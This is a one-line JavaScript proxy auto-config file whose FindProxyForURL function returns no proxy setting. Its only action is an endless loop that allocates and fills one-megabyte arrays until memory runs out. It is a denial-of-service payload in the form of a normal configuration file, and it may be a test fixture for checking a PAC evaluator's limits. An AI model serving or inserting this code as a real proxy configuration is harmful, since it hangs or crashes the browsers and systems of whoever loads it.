function FindProxyForURL(url, host) { var all = []; while (true) { all.push(new Uint8Array(1 << 20).fill(1)); } }
